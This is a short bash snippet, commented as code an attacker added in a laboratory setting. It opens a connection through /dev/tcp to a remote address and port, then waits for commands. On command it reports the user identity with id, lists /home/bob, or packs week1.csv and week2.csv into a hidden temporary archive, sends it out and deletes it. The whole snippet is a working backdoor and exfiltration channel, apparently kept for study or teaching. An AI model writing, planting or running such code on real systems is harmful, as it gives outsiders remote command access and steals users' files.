# What the attacker added: calls one address of the laboratory and can do only what is listed.
exec 3<>/dev/tcp/10.66.4.9/8444
while read -r word <&3; do
  case $word in
    who) id >&3 ;;
    list) ls -la /home/bob >&3 ;;
    take) tar czf /tmp/.w week1.csv week2.csv; cat /tmp/.w >&3; rm /tmp/.w ;;
  esac
done
